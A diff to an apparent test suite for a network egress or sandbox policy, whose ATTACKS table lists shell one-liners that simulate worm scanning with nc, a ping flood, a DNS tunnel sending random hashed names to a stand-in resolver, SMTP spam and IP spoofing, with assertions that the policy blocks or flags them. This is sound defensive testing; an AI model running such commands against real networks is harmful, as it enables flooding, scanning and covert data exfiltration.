@@ -33,7 +33,7 @@ ATTACKS = {
     "fenced": "while t; do nc -w 1 203.0.113.201 80 </dev/null; done",
     "worm": "while t; do nc -w 1 203.0.113.9 445 </dev/null; nc -w 1 192.0.2.12 445 </dev/null; done",
     "flood": "i=0; while t; do i=$((i+1)); ping -c 20 -i 0.1 -s 1000 -W 1 203.0.113.$((i % 9 + 1)) >/dev/null; done",
-    "tunnel": "while t; do n=$(head -c 20 /dev/urandom | md5sum | cut -c1-30); timeout 1 nslookup -type=a $n.t.example.com 203.0.113.53; "
+    "tunnel": "while t; do n=$(head -c 20 /dev/urandom | sha1sum | cut -c1-40); timeout 1 nslookup -type=a $n.t.example.com 203.0.113.53; "
               "timeout 1 nslookup -type=a a$((RANDOM % 900)).example.com 203.0.113.53; done >/dev/null 2>&1",
     "spam": "while t; do (printf 'EHLO x\\r\\nMAIL FROM:<a@example.net>\\r\\nQUIT\\r\\n'; sleep 1) | nc -w 2 203.0.113.25 25 >/dev/null; done",
     "spoof": "ip addr add 192.0.2.99/24 dev eth0; while t; do ping -c 1 -W 1 -I 192.0.2.99 203.0.113.5 >/dev/null; "
@@ -45,7 +45,7 @@ def test_up():
     """two guests, a policy with a limit of each kind"""
     net.up()
     true(eventually(lambda: "root" in net.ssh("192.0.2.11", "id -un", check=False)[1], 20), "no ssh")
-    state["witness"] = net.lab_start("tcpdump", "-i", "any", "-n", "-l", "-Q", "in", "--immediate-mode", "ip and ether src not 0:0:0:0:0:0")
+    state["witness"] = net.lab_start("tcpdump", "-i", "any", "-n", "-l", "-Q", "in", "--immediate-mode", "ip and src net 192.0.2.0/24")
     state["server"] = net.lab_start("sh", "-c", "cd /tmp && exec python3 -m http.server --bind 203.0.113.80 80")
     time.sleep(1)
 
@@ -93,7 +93,7 @@ def test_witness():
     true(most <= 2, f"{most} connections with one destination")
     equal(len(ping), ICMP, f"pings that left: {sorted(ping)}")
     true(len({n.lower() for n in names}) <= NAMES, f"names that left: {sorted(set(names))}")
-    true(not any(re.fullmatch(r"[0-9a-f]{30}\..*", n) for n in names), f"a tunnel's name left: {names}")
+    true(not any(re.fullmatch(r"[0-9a-f]{40}\..*", n) for n in names), f"a tunnel's name left: {names}")
 
 
 def test_evidence():
@@ -112,7 +112,7 @@ def test_evidence():
     true(count.get(("drop", "limit-destination"), 0) + count.get(("drop", "limit-tcp"), 0) > 5, "nor the one target")
     true(count.get(("reset", "rule"), 0) > 3, "no worm was refused")
     true(count.get(("sinkhole", "rule"), 0) > 3, "no mail was played")
-    asked = net.recorded("ip.src==192.0.2.11", "udp.dstport==53")
+    asked = net.recorded("ip.src==192.0.2.11", "udp.dstport==53", "!icmp")
     equal(sum(1 for f in asked if f[3]["verdict"] == "forward"), len(names), "questions that left")
     true(any(f[3]["reason"] == "dns-tunnel" for f in asked), "no tunnel was found")
     spoofed = net.recorded("ip.src==192.0.2.99 || arp.src.proto_ipv4==192.0.2.99")
